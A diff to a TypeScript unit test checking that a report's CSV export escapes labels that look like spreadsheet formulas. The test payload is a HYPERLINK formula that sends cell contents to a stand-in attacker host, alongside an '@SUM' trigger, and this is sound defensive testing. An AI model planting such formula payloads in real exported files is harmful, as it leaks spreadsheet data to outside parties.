@@ -38,7 +38,7 @@ describe('figureCsv(id, report) with a curated label that looks like a formula',
     const inputs = loadReportInputs(DATA_DIR);
     const events = inputs.curated.overview.events;
     const evil = '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")';
-    inputs.curated.overview.events = events.map((e, i) => (i === 0 ? { ...e, label: { zh: '@SUM(1+1)', en: evil } } : e));
+    inputs.curated.overview.events = events.map((e, i) => (i === 0 ? { ...e, label: { ...e.label, zh: '@SUM(1+1)', en: evil } } : e));
     const csv = figureCsv('overview-events', buildReport(inputs, '2022-06-30'));
     const rows = parse(csv) as string[][];
     expect(rows[1]).toContain(`'${evil}`);
